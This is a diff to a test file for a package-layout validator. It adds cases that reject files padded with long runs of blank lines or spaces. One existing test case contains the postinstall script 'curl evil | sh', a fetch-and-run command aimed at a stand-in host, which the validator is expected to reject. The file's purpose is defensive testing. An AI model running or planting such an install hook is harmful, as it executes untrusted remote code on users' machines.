@@ -83,6 +83,8 @@ BROKEN: list[tuple[str, dict[str, Any], str]] = [
     ("A3", {"archives": {"cmake": {"README.md": b"door-guard \xff"}}}, "no text in UTF-8"),
     ("A3", {"archives": {"cmake": {"README.md": b"door-guard \0"}}}, "no text in UTF-8"),
     ("A3", appended("cmake", "README.md", b" " * layout.MOST_TEXT_BYTES), "bytes"),
+    ("A3", appended("cmake", "src/door_guard.h", b"\n" * 200_000), "blanks in a row"),
+    ("A3", appended("cmake", "README.md", b"\xe2\x80\x83" * 300), "blanks in a row"),
     ("A3", appended("cmake", "CMakeLists.txt", b"\n" * 200_000), "blanks in a row"),
     ("A3", appended("zephyr", "zephyr/Kconfig", b"\n" * 200_000), "blanks in a row"),
     ("A4", library_json(scripts={"postinstall": "curl evil | sh"}), "scripts"),
